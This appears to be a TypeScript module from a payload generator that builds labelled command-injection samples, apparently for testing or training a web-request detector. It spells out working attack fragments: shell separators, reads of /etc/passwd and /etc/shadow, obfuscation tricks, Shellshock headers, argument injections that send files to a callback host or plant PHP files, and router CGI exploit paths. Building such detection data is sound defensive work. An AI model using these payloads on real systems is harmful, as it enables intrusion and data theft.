/** Families of command injection: how a command gets to a shell, and which shell that is. */
import type { VariableSource } from '../../../../variables.ts';
import type { Family } from '../../family.ts';
import {
  changed,
  integer,
  maybe,
  oneOf,
  type Part,
  type Rule,
  redrawn,
  repeat,
  text,
  weighted,
  words,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { disguiseShell } from '../../mutators/shell.ts';
import { CALLBACK_HOST, IP_ADDRESS, MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE, WORD } from '../plausible-values.ts';
import { CMD_COMMAND, DROPPER, REVERSE_SHELL, UNIX_BLIND, UNIX_COMMAND, UNIX_ENCODED, UNIX_LOOK } from './commands.ts';
import { POWERSHELL_COMMAND } from './powershell.ts';

const ARGUMENTS: readonly VariableSource[] = [
  'REQUEST_GET_ARGS',
  'REQUEST_POST_ARGS',
  'REQUEST_ARGS',
  'REQUEST_JSON',
  'REQUEST_QUERY',
  'REQUEST_URI',
  'REQUEST_COOKIES',
  'REQUEST_XML',
  'REQUEST_FILES',
];
const ANYWHERE: readonly VariableSource[] = [...ARGUMENTS, 'REQUEST_PATH', 'REQUEST_HEADERS', 'CLIENT_USERAGENT'];
const HEADERS: readonly VariableSource[] = [
  'REQUEST_HEADERS',
  'CLIENT_USERAGENT',
  'REQUEST_COOKIES',
  'REQUEST_GET_ARGS',
];

const LEAD: Rule = weighted(
  [5, ''],
  [4, PLAUSIBLE_VALUE],
  [1, IP_ADDRESS],
  [1, text`${WORD}.${words('txt com jpg php pdf')}`],
  [0.5, '127.0.0.1'],
);
const QUOTE: Rule = weighted([8, ''], [2, "'"], [2, '"'], [0.5, ')'], [0.5, "')"], [0.5, '\\"'], [0.3, '`']);
const SEPARATOR: Rule = weighted(
  [8, ';'],
  [5, '|'],
  [4, '&&'],
  [3, '||'],
  [3, '&'],
  [2, '\n'],
  [1.5, '%0a'],
  [1, '\r\n'],
  [0.7, '%0d%0a'],
  [0.7, '%26'],
  [0.7, '%3b'],
  [0.7, '%7c'],
  [0.7, '%26%26'],
  [0.5, ';;'],
  [0.3, '|&'],
  [0.3, '%00;'],
  [0.3, '^|'],
);
const BEHIND: Rule = weighted(
  [10, ''],
  [2, ';'],
  [1.5, '|'],
  [1.5, '#'],
  [1, '&'],
  [1, '&&'],
  [1, '||'],
  [1, ' #'],
  [0.7, '%0a'],
  [0.7, '\n'],
  [0.7, '//'],
  [0.5, ' > /dev/null'],
  [0.5, ' 2>&1'],
  [0.3, '%00'],
  [0.3, ' ;exit'],
);

function separated(command: Part): Rule {
  return weighted(
    [10, text`${LEAD}${SEPARATOR}${maybe(' ', 0.4)}${command}${BEHIND}`],
    [3, text`${LEAD}${QUOTE}${SEPARATOR}${maybe(' ')}${command}${SEPARATOR}${QUOTE}`],
    [2, text`${PLAUSIBLE_VALUE} ${SEPARATOR} ${command}${BEHIND}`],
    [0.5, text`${LEAD}${SEPARATOR}${command}${SEPARATOR}${command}`],
  );
}

function substituted(command: Part): Rule {
  return weighted(
    [6, text`${maybe(PLAUSIBLE_VALUE, 0.4)}$(${command})`],
    [5, text`${maybe(PLAUSIBLE_VALUE, 0.4)}\`${command}\``],
    [1, text`"$(${command})"`],
    [1, text`'$(${command})'`],
    [1, text`${WORD}=$(${command})`],
    [1, text`$(${command}).${CALLBACK_HOST}`],
    [0.7, text`\`${command}\`.${CALLBACK_HOST}`],
    [0.7, text`;\`${command}\``],
    [0.5, text`<(${command})`],
    [0.5, text`a;b=$(${command});echo $b`],
    [0.5, text`{${words('cat,/etc/passwd ls,-la id, sleep,5 echo,$(id)')}}|\`${command}\``],
  );
}

const unixSeparated: Rule = evade(separated(UNIX_COMMAND));
const unixSubstituted: Rule = evade(substituted(UNIX_COMMAND));

/** Names of commands that are words or abbreviations as well, so that alone they prove nothing. */
const AMBIGUOUS = /^(?:id|ls|pwd|env|ps|hostname|dir|history|groups|dmesg|which \w+|tasklist|[\w ]{0,4})$/i;
const isClear = (written: string): boolean => !AMBIGUOUS.test(written);

/** Commands without a separator that mean something only to a shell. */
const plainCommand: Rule = evade(
  redrawn(
    weighted(
      [4, changed(UNIX_LOOK, disguiseShell)],
      [3, changed(text`cat ${words('/etc/passwd /etc/shadow /etc/hosts /proc/version')}`, disguiseShell)],
      [2, UNIX_BLIND],
      [2, CMD_COMMAND],
      [1, text`/${words('bin usr/bin')}/${words('cat ls id sh bash nc')} ${words('/etc/passwd -la -c "id" -i -e')}`],
      [1, text`${words('system exec passthru popen shell_exec')} ${UNIX_LOOK}`],
      [1, text`${UNIX_LOOK} | ${words('base64 sh nc grep head more xxd')}${maybe(' -n 1')}`],
      [1, text`${UNIX_LOOK};${UNIX_LOOK}`],
      [1, text`${words('sudo nohup busybox exec nice time eval')} ${UNIX_LOOK}`],
    ),
    isClear,
  ),
);

const reverseShell: Rule = evade(
  weighted([3, REVERSE_SHELL], [4, separated(REVERSE_SHELL)], [1, substituted(REVERSE_SHELL)]),
);
const dropper: Rule = evade(weighted([3, DROPPER], [4, separated(DROPPER)], [1, substituted(DROPPER)]));
const encodedCommand: Rule = evade(
  weighted([3, UNIX_ENCODED], [3, separated(UNIX_ENCODED)], [1, substituted(UNIX_ENCODED)]),
);

const WINDOWS_SEPARATOR: Rule = weighted(
  [5, '&'],
  [4, '|'],
  [4, '&&'],
  [2, '||'],
  [1, ';'],
  [1, '%26'],
  [0.7, '%0a'],
  [0.5, '%1a'],
  [0.5, '\n'],
);
const windows: Rule = evade(
  weighted(
    [
      5,
      text`${LEAD}${maybe(QUOTE)}${WINDOWS_SEPARATOR}${maybe(' ')}${CMD_COMMAND}${weighted([4, ''], [1, '&'], [1, '|'], [1, '&&'], [1, '&rem'])}`,
    ],
    [3, redrawn(CMD_COMMAND, isClear)],
    [1, text`${PLAUSIBLE_VALUE}" & ${CMD_COMMAND} & "`],
    [1, text`cmd${maybe('.exe')} /${words('c k C')} "${CMD_COMMAND}"`],
  ),
);
const powershell: Rule = evade(
  weighted(
    [3, POWERSHELL_COMMAND],
    [3, text`${LEAD}${WINDOWS_SEPARATOR}${maybe(' ')}${POWERSHELL_COMMAND}`],
    [1, text`${LEAD}';${POWERSHELL_COMMAND};#`],
    [0.5, text`$(${POWERSHELL_COMMAND})`],
  ),
);

const FUNCTION_BODY: Rule = oneOf(
  '() { :;}; ',
  '() { :; }; ',
  '() { :;};',
  '(){:;};',
  '() { foo;}; ',
  '() { ignored;};',
  '() { x;}; ',
  '() { _; } >_[$($())] { ',
  '() { a; }; ',
  '() { test;};',
);
const shellshock: Rule = evade(
  text`${FUNCTION_BODY}${oneOf(
    text`${maybe('echo; ')}${oneOf('/bin/bash -c ', '/bin/sh -c ', '/usr/bin/env bash -c ')}"${UNIX_COMMAND}"`,
    text`echo; ${words('/bin /usr/bin')}/${UNIX_LOOK}`,
    text`echo ${oneOf('Content-Type: text/plain', text`"${MARKER}: $(id)"`, text`X-${MARKER}: ${integer(1, 9999)}`)}; echo; ${UNIX_LOOK}`,
    text`/bin/ping -c ${integer(1, 9)} ${IP_ADDRESS}`,
    text`${UNIX_COMMAND}`,
    text`/usr/bin/wget -qO- http://${CALLBACK_HOST}/`,
    text`echo vulnerable' bash -c "echo test"`,
  )}`,
);

/** Names made of globs, quotes and variables, and nothing else. */
const CRYPTIC: Rule = oneOf(
  text`/${words('b??/??t bin/c?t ???/??t b*n/c*t ?in/[c]at bin/ca? ???/n?')} ${words('/???/p?????d /e??/pa??wd /etc/p* /???/??ss?? /etc/pass[w]d /etc//passwd')}`,
  text`${words(`c''at c""at c\\at c$@at ca$*t $'cat' 'c'a't' c\`\`at ca\${x}t \\c\\a\\t`)}${oneOf(' ', '${IFS}', '$IFS$9', '<', '$IFS')}${words('/etc/passwd /etc/p?sswd /et$@c/pas""swd /e*c/passwd $HOME/../etc/passwd')}`,
  text`{${words('cat ls curl wget nc ping head')},${words('/etc/passwd -la / 127.0.0.1')}}`,
  text`w${words(`'' "" \\ $@ $* \`\``)}ho${words(`'' "" \\ $@ am`)}am${words(`'' "" $@ $*`)}i`,
  text`${words('a x cmd q')}=${words('who l c ca w')};${words('b y z')}=${words('ami s at t')};$${words('a x cmd q')}$${words('b y z')} ${words('/etc/passwd -la /')}`,
  text`$\{PATH:${integer(0, 9)}:1}${words('s d')}${maybe(' -la')}`,
  text`cat $\{${words('HOME PWD PATH')}:0:1}etc$\{${words('HOME PWD PATH')}:0:1}passwd`,
  text`$(${oneOf('a=who;b=ami;echo $a$b', 'tr "[A-Z]" "[a-z]"<<<"WhOaMi"', 'a="WhOaMi";printf %s "${a,,}"', "rev<<<'imaohw'", 'printf "\\167\\150\\157"')})`,
  text`${words('cat head tac')}$IFS$${integer(1, 9)}/etc/${words('passwd hosts')}`,
  text`${words('cat sort rev nl')}</etc/${words('passwd shadow issue')}`,
  text`cat $(echo ${words('/etc/passwd L2V0Yy9wYXNzd2Q=|base64${IFS}-d /e*c/pas*d')})`,
  text`IFS=,;\`cat<<<cat,/etc/${words('passwd hosts')}\``,
  text`X=$'${words('cat\\x20/etc/passwd uname\\x20-a id\\x20 ls\\x20-la')}'&&$X`,
  text`${repeat(words(`\\\\$'\\\\143' $'\\x63' $'\\u0063'`), 1, 2)}at /etc/passwd`,
  text`cd ..${repeat('/..', 0, 6)}${words('; && ;%20')}cat ${words('etc/passwd etc/hosts')}`,
  text`echo ${words('`ls` $(</etc/passwd) ${BASH} $0 $SHELL$IFS /etc/* `id`')}`,
  text`test=/ehhh/hmtc/pahhh/hmsswd;cat $\{test//hh??hm/}`,
);
const cryptic: Rule = evade(weighted([2, CRYPTIC], [4, separated(CRYPTIC)], [1, substituted(CRYPTIC)]));

/** Options that make a program run another one, for values that become arguments. */
const argumentInjection: Rule = evade(
  oneOf(
    text`--checkpoint-action=exec=${oneOf('sh', UNIX_LOOK)}`,
    text`-${words('exec execdir')} ${UNIX_COMMAND} ${words('; \\; +')}`,
    text`--use-compress-program=${UNIX_LOOK}`,
    text`-oProxyCommand=${UNIX_COMMAND}`,
    text`--upload-pack=\`${UNIX_COMMAND}\``,
    text`--exec=\`${UNIX_COMMAND}\``,
    text`-e ${words('/bin/sh /bin/bash cmd.exe')} ${IP_ADDRESS} ${integer(1024, 65535)}`,
    text`-be \${run{${UNIX_COMMAND}}}`,
    text`${WORD}@${WORD}.com -OQueueDirectory=/tmp -X/var/www/html/${MARKER}.php`,
    text`-o /var/www/html/${MARKER}.php http://${CALLBACK_HOST}/x`,
    text`--post-file=/etc/passwd http://${CALLBACK_HOST}`,
    text`ext::sh -c ${UNIX_LOOK}`,
    text`${WORD}.${words('jpg png pdf txt')}"|${UNIX_COMMAND}|"`,
    text`|${UNIX_COMMAND} ${WORD}`,
    text`https://${CALLBACK_HOST}/"|${UNIX_LOOK}"`,
    text`push graphic-context viewbox 0 0 640 480 fill 'url(https://${CALLBACK_HOST}/x.jpg"|${UNIX_LOOK}")' pop graphic-context`,
  ),
);

/** Paths and parameters of routers, cameras and consoles that hand a value to a shell. */
const deviceRequest: Rule = evade(
  weighted(
    [
      2,
      text`/${words('cgi-bin/luci/;stok=/locale setup.cgi cgi-bin/admin.cgi boaform/admin/formPing goform/setUsbUnload shell cgi-bin/test-cgi apply.cgi ping.cgi cgi-bin/nobody/Search.cgi')}?${oneOf('form=country&operation=write&country', 'next_file=netgear.cfg&todo=syscmd&cmd', 'target_addr', 'cmd', 'ip', 'deviceName', 'host', 'name')}=${oneOf(substituted(oneOf(DROPPER, UNIX_LOOK)), separated(oneOf(DROPPER, UNIX_LOOK)))}`,
    ],
    [
      1,
      text`${words('cmd exec command execute ping query jump code run host ip daemon upload dir download log cli step')}=${changed(oneOf(UNIX_LOOK, UNIX_BLIND, CMD_COMMAND), (command, random) => (command.includes(' ') ? command : `${[';', '|', '&&', '$('][Math.floor(random() * 4)]}${command}`))}`,
    ],
    [1, text`XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`${DROPPER}\`;&ipv=0`],
    [1, text`/shell?${DROPPER}`],
    [
      1,
      text`/cgi-bin/${words('.%2e/.%2e/.%2e/.%2e ..%c0%af..%c0%af %%32%65%%32%65/%%32%65%%32%65')}/bin/sh echo;${UNIX_LOOK}`,
    ],
  ),
);

function family(name: string, value: Rule, weight = 1, places = ARGUMENTS): Family {
  return { name: `command-injection/${name}`, label: 'command-injection', weight, places, value };
}

export const COMMAND_INJECTION_FAMILIES: readonly Family[] = [
  family('unix-separated', unixSeparated, 2.5, ANYWHERE),
  family('unix-substituted', unixSubstituted, 1.3, ANYWHERE),
  family('plain-command', plainCommand, 1.3),
  family('reverse-shell', reverseShell, 0.8, ANYWHERE),
  family('dropper', dropper, 0.8, ANYWHERE),
  family('encoded-command', encodedCommand, 0.6),
  family('windows', windows),
  family('powershell', powershell, 0.8),
  family('shellshock', shellshock, 0.6, HEADERS),
  family('cryptic', cryptic),
  family('argument-injection', argumentInjection, 0.6),
  family('device-request', deviceRequest, 0.7, ['REQUEST_URI', 'REQUEST_QUERY', 'REQUEST_PATH', 'REQUEST_POST_ARGS']),
];
